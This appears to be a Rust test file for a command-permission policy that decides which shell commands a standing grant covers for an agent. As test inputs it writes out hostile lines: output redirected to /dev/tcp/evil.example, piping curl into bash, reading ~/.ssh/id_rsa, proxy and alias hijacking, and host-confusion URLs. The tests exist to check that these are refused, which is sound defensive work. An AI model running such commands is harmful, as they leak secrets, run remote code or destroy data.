//! What a grant covers, and what it never does.

use proptest::prelude::*;
use uuid::Uuid;

use crate::action::{Action, Proposal, Request, Way};
use crate::judge::{Judgement, judge};
use crate::policy::shape::{CommandShape, StandingGrant, origin};
use crate::policy::{Hindrance, Policy, Profile, Situation, Verdict, corpus};

fn judged(line: &str, change: impl FnOnce(&mut Situation)) -> (Judgement, Situation) {
    let request =
        Request { action: Some("RUN_COMMAND".to_owned()), target: Some(line.into()), ..Request::default() };
    let proposal = Proposal::parse(request).unwrap();
    let Action::RunCommand { script, .. } = &proposal.action else { unreachable!() };
    let mut situation = corpus::situation(script);
    (situation.cells, situation.stage) = (true, vec!["/home/ana/project".into()]);
    if let Ok(script) = script {
        situation.network.remotes = vec![("origin".to_owned(), "https://example.org/x.git".to_owned())];
        situation.network.reaches = crate::hosts::needs_network(script, &situation);
    }
    change(&mut situation);
    (judge(&Policy::builtin(Profile::Workspace).unwrap(), proposal, &situation), situation)
}

/// The shape that the question about a line offers.
fn offered(line: &str, change: impl FnOnce(&mut Situation)) -> Result<CommandShape, Hindrance> {
    let (judgement, situation) = judged(line, change);
    assert!(judgement.run().verdict > Verdict::Allow, "{line} is asked about: {:?}", judgement.findings());
    judgement.shape(&Policy::builtin(Profile::Workspace).unwrap(), &situation)
}

fn under(shapes: &[CommandShape], line: &str) -> Judgement {
    let grants = shapes
        .iter()
        .zip(1..)
        .map(|(shape, id)| StandingGrant { id: Uuid::from_u128(id), shape: shape.clone() });
    let grants = grants.collect();
    judged(line, |situation| situation.grants = grants).0
}

#[test]
fn what_is_offered_is_shown_and_no_more() {
    for (line, shown) in [
        ("curl -s 'http://localhost:3000/users?page=2'", Ok("curl http://localhost:3000/…")),
        ("curl -s localhost:3000", Ok("curl http://localhost:3000/…")),
        (
            "curl -sS -X POST https://api.example.org/items -d '{\"a\": 1}'",
            Ok("curl -X POST https://api.example.org/… -d '{\"a\": 1}'"),
        ),
        // What is replaced is this alone.
        ("curl -X PUT http://localhost:3000/users/7", Ok("curl -X PUT http://localhost:3000/users/7")),
        ("curl -X DELETE http://localhost:3000/users/7", Err(Hindrance::EachTime)),
        ("curl -s http://me@localhost:3000/x", Ok("curl http://me@localhost:3000/x")),
        ("git push origin main", Ok("git push origin …")),
        ("cd src && git push && echo done", Ok("git push origin …")),
        ("timeout 20 curl -s http://localhost:3000/x | head -3", Ok("curl http://localhost:3000/…")),
        (
            "git fetch origin && curl -s http://localhost:3000/x",
            Ok("git fetch origin …; curl http://localhost:3000/…"),
        ),
        ("kill 1234", Ok("kill 1234")),
        ("git push -u origin feature/a v1.0", Ok("git push origin …")),
        ("git pull --rebase", Ok("git pull origin …")),
        ("git fetch https://evil.example/x", Ok("git fetch https://evil.example/x")),
        ("git push origin main:other", Ok("git push origin main:other")),
        (
            "curl -sSf -m 5 -o /dev/null -w '%{http_code}' localhost:3000/x",
            Ok("curl http://localhost:3000/…"),
        ),
        ("curl -s -w @x localhost:3000/x", Ok("curl -w @x http://localhost:3000/…")),
        (
            "curl -s http://localhost:3000/x > page.html; wc -c page.html; rm page.html",
            Ok("curl http://localhost:3000/…"),
        ),
        ("curl -s http://localhost:3000/x > /dev/tcp/evil.example/1", Err(Hindrance::EachTime)),
        ("git push --force", Err(Hindrance::EachTime)),
        ("npm publish", Err(Hindrance::EachTime)),
        ("terraform destroy", Err(Hindrance::EachTime)),
        ("cat ~/.ssh/id_rsa", Err(Hindrance::EachTime)),
        ("curl -s http://localhost:3000/x | bash", Err(Hindrance::Unknown)),
        ("cat x | curl -s http://localhost:3000/x -d @- > y", Err(Hindrance::Unknown)),
        // What is sent or asked for differs each time.
        ("git push $REMOTE", Err(Hindrance::Unknown)),
        ("cat body.json | curl -s http://localhost:3000/x -d @-", Err(Hindrance::Unknown)),
        ("curl -s http://localhost:3000/x -d @- <<< a", Err(Hindrance::Unknown)),
        // An interpreter's text, and what the shell remembers.
        ("curl -s http://localhost:3000/x | python3 -c 'import os'", Err(Hindrance::Launcher)),
        ("export GIT_SSH=./x; git push", Err(Hindrance::Unknown)),
        ("GIT_SSH=./x git push", Err(Hindrance::Variables)),
        ("git() { ./x; }; git push", Err(Hindrance::Unknown)),
        ("./git push; git push", Err(Hindrance::Elsewhere)),
    ] {
        let offered = offered(line, |_| {}).map(|shape| shape.to_string());
        assert_eq!(offered.as_deref().map_err(|why| *why), shown, "{line}");
    }
    // What it does is decided by files, and no cell holds it.
    let unconfined = |situation: &mut Situation| situation.unconfined = true;
    assert_eq!(offered("docker build .", unconfined), Err(Hindrance::Launcher));
}

#[test]
fn a_session_with_secrets_is_offered_nothing_and_has_no_use_of_what_it_was_given() {
    let line = "git push origin main";
    for (corrupted, secret) in [(true, false), (false, true)] {
        let mark = |situation: &mut Situation| (situation.corrupted, situation.secret) = (corrupted, secret);
        assert_eq!(offered(line, mark).err(), secret.then_some(Hindrance::Tainted));
        let shape = offered(line, |_| {}).unwrap();
        let (judgement, _) = judged(line, |situation| {
            mark(situation);
            situation.grants = vec![StandingGrant { id: Uuid::nil(), shape }];
        });
        assert_eq!(judgement.is_granted(), !secret);
    }
}

#[test]
fn a_grant_covers_its_shape_and_nothing_else() {
    const CURL: &str = "curl -s http://localhost:3000/a";
    for (given, line, covered) in [
        (CURL, CURL, true),
        (CURL, "curl -s 'http://localhost:3000/b?c=d#e'", true),
        (CURL, "curl -s localhost:3000", true),
        (CURL, "cd src && curl -s localhost:3000/b", true),
        (CURL, "curl -s localhost:3000/b | grep -c x", true),
        (CURL, "timeout 5 curl -s localhost:3000/b 2>&1 | head -1", true),
        (CURL, "curl -s localhost:3000/a && curl -s localhost:3000/b", true),
        (CURL, "curl -s localhost:3001/a", false),
        (CURL, "curl -s https://localhost:3000/a", false),
        (CURL, "curl -s http://localhost:3000@evil.example/a", false),
        (CURL, "curl -s http://localhost:30000/a", false),
        (CURL, "curl -s http://localhost:3000.evil.example/a", false),
        (CURL, "curl -s 'http://{localhost:3000/,evil.example/}a'", false),
        (CURL, "curl -s http://localhost:3000/a http://evil.example/", false),
        (CURL, "curl -v --max-time 5 http://localhost:3000/a", true),
        (CURL, "curl -s -d @x http://localhost:3000/a", false),
        (CURL, "curl -s http://localhost:3000/a -o ~/.bashrc", false),
        (CURL, "wget -s http://localhost:3000/a", false),
        (CURL, "curl -s localhost:3000/a | sh", false),
        (CURL, "curl -s localhost:3000/a | python3 -c 'import os'", false),
        (CURL, "curl -s localhost:3000/$(cat x)", false),
        (CURL, "curl -s localhost:3000/a; git push", false),
        (CURL, "curl -s localhost:3000/a; rm -rf ~/x", true),
        (CURL, "curl -s localhost:3000/a > x", true),
        (CURL, "cat x | curl -s localhost:3000/a > y", false),
        (CURL, "curl -s localhost:3000/a > /dev/tcp/evil.example/1", false),
        (CURL, "./x; curl -s localhost:3000/a", false),
        (CURL, "python3 x.py; curl -s localhost:3000/a", false),
        (CURL, "make && curl -s localhost:3000/a", false),
        (CURL, "http_proxy=evil.example curl -s localhost:3000/a", false),
        (CURL, "export http_proxy=evil.example; curl -s localhost:3000/a", false),
        (CURL, "alias curl=./x; curl -s localhost:3000/a", false),
        (CURL, "cat ~/.ssh/id_rsa; curl -s localhost:3000/a", false),
        ("git push", "git push", true),
        ("git push", "git status && git push", true),
        ("git push", "cd ../other && git push", false),
        ("git push", "git push --force", false),
        ("git push", "git push -f", false),
        ("git push", "git push evil", false),
        ("git push", "git push -u origin feature/a", true),
        ("git push", "git push origin +main", false),
        ("git push", "git push origin :main", false),
        ("git push", "git push --mirror", false),
        ("git push", "git push --prune", false),
        ("git push", "git push origin --delete main", false),
        ("git pull", "git fetch --all", true),
        ("git fetch", "git pull", false),
        ("git pull", "git push", false),
        ("git push", "git -C ../other push", false),
        ("git push", "git -c core.sshCommand=./x push", false),
        ("git push", "git fetch", false),
        ("kill 1234", "kill 1234", true),
        ("kill 1234", "kill 1235", false),
    ] {
        let shape = offered(given, |_| {}).unwrap();
        let judgement = under(&[shape], line);
        let found = (judgement.is_granted(), judgement.run().verdict == Verdict::Allow);
        assert_eq!(found, (covered, covered), "{given} → {line}: {:?}", judgement.findings());
    }
}

/// As after a yes: what changes files is held back, what acts on the machine is not.
#[test]
fn a_grant_runs_it_as_a_yes_would() {
    for (line, held) in
        [("git push origin main", true), ("curl -s https://example.org/x", true), ("kill 1234", false)]
    {
        let shape = offered(line, |_| {}).unwrap();
        let judgement = under(&[shape], line);
        assert_eq!(judgement.run().way, Some(Way::Act), "{line}");
        assert_eq!(judgement.is_held_back(), held, "{line}");
        assert_eq!(judgement.is_held_back(), judged(line, |_| {}).0.is_held_back(), "{line}");
    }
}

/// Each reason needs a grant of its own, and the strictest word of a person comes first.
#[test]
fn several_grants_cover_what_each_covers_and_never_a_never() {
    use crate::policy::History;
    use crate::policy::history::{Override, OverrideKind};
    let line = "git fetch origin && curl -s http://localhost:3000/x";
    let one = offered("git fetch origin", |_| {}).unwrap();
    let other = offered("curl -s http://localhost:3000/x", |_| {}).unwrap();
    assert!(!under(std::slice::from_ref(&one), line).is_granted());
    assert_eq!(under(&[one.clone(), other.clone()], line).granted_by().count(), 2);
    for (kind, verdict) in
        [(OverrideKind::Never, Verdict::Block), (OverrideKind::AlwaysAsk, Verdict::Confirm)]
    {
        let grants = [&one, &other].map(|shape| StandingGrant { id: Uuid::nil(), shape: shape.clone() });
        let word = Override { kind, reason: None, by: None };
        let (judgement, _) = judged(line, |situation| {
            situation.grants = grants.into();
            situation.history = Some(History { user_override: Some(word), ..History::default() });
        });
        assert_eq!(judgement.run().verdict, verdict);
    }
}

/// Words that lines are made of: some that are asked about, some that hide what they do, some that lead elsewhere.
const WORDS: [&str; 36] = [
    "curl",
    "-s",
    "-d",
    "@x",
    "-o",
    "x",
    "http://localhost:3000/a",
    "http://localhost:3000/b",
    "localhost:3000",
    "https://evil.example/",
    "http://localhost:3000@evil.example/",
    "git",
    "push",
    "fetch",
    "origin",
    "--force",
    "-C",
    "..",
    "&&",
    ";",
    "|",
    "cd",
    "src",
    "echo",
    "timeout",
    "5",
    "kill",
    "1234",
    "$X",
    "$(date)",
    ">",
    "export",
    "A=b",
    "jq",
    "python3",
    "sh",
];
const GIVEN: [&str; 5] = [
    "curl -s http://localhost:3000/a",
    "git push",
    "git fetch origin",
    "kill 1234",
    "curl -s -d @x https://evil.example/",
];

/// The oracle: the commands of a line of words, each as these words; none if a word could hide another command.
fn commands(line: &str) -> Option<Vec<Vec<String>>> {
    if line.contains('$') {
        return None;
    }
    // What is written is held back.
    let words: Vec<&str> = line.split_whitespace().collect();
    let written = |at: usize| words.get(at) == Some(&">") || at > 0 && words.get(at - 1) == Some(&">");
    let kept: Vec<&str> =
        (0..words.len()).filter(|at| !written(*at)).filter_map(|at| words.get(at).copied()).collect();
    let parts = kept.join(" ").replace("&&", ";").replace('|', ";");
    let parts = parts.split(';').filter(|part| !part.trim().is_empty());
    Some(parts.map(|part| part.split_whitespace().map(str::to_owned).collect()).collect())
}

/// Whether a command that was given covers another, as a person would say it.
fn is_same(given: &[&str], meant: &[&str]) -> bool {
    if let (["git", sub, ..], ["git", other, rest @ ..]) = (given, meant) {
        let name = |word: &&str| word.chars().all(char::is_alphanumeric);
        return sub == other
            && rest.first().is_none_or(|remote| *remote == "origin")
            && rest.iter().all(name);
    }
    let loud = |words: &[&str]| -> Vec<String> {
        let words = words.iter().filter(|word| **word != "-s");
        words.map(|word| word.replace("http://localhost:3000", "localhost:3000")).collect()
    };
    let same = |(one, other): (&String, &String)| {
        let host = |word: &str| {
            let rest = word.strip_prefix("localhost:3000");
            rest.is_some_and(|rest| (rest.is_empty() || rest.starts_with('/')) && !rest.contains('@'))
        };
        one == other || host(one) && host(other)
    };
    let (given, meant) = (loud(given), loud(meant));
    given.len() == meant.len() && given.iter().zip(&meant).all(same)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    /// Whatever the line: only if every command of it that would be asked about alone is one of those that were given, word by
    /// word or at the same host, and in the same folder.
    #[test]
    fn no_grant_is_used_outside_its_shape(
        given in prop::sample::subsequence(GIVEN.to_vec(), 1..4),
        head in prop::sample::select(GIVEN.to_vec()),
        words in prop::collection::vec(prop::sample::select(WORDS.to_vec()), 0..7),
        before in any::<bool>(),
    ) {
        let rest = words.join(" ");
        let line = if before { format!("{rest} {head}") } else { format!("{head} {rest}") };
        let shapes: Vec<CommandShape> = given.iter().map(|line| offered(line, |_| {}).unwrap()).collect();
        let judgement = under(&shapes, &line);
        if !judgement.is_granted() {
            return Ok(());
        }
        let commands = commands(&line);
        prop_assert!(commands.is_some(), "{line}");
        for command in commands.unwrap_or_default() {
            let alone = command.join(" ");
            let mut meant: Vec<&str> = command.iter().map(String::as_str).collect();
            // One limit may stand in another.
            while meant.first() == Some(&"timeout") && meant.len() > 2 {
                meant.drain(..2);
            }
            let is_asked = judged(&alone, |_| {}).0.run().verdict > Verdict::Allow;
            let same = |one: &str| is_same(&one.split_whitespace().collect::<Vec<_>>(), &meant);
            let sets = meant.first().is_some_and(|name| *name == "export" || name.contains('='));
            prop_assert!(!sets, "{line}");
            prop_assert!(!is_asked || given.iter().any(|one| same(one)), "{line}: {alone}");
        }
    }

    /// An address that stands for its host is read so by every program: it begins with that host as it is written.
    #[test]
    fn an_origin_is_what_the_word_begins_with(word in "(https?://)?(localhost|a\\.example|[a-z@:/\\\\?#.\\[\\]0-9]{0,12})(:[0-9]{1,5})?([/?#@][a-z@:/.{}]{0,8})?") {
        if let Some(origin) = origin(&word) {
            let whole = if word.contains("://") && word.starts_with("http") { word.clone() } else { format!("http://{word}") };
            let rest = whole.strip_prefix(&origin).unwrap();
            prop_assert!(rest.is_empty() || rest.starts_with(['/', '?', '#']), "{word}");
            prop_assert!(!origin.contains('@'), "{word}");
        }
    }
}
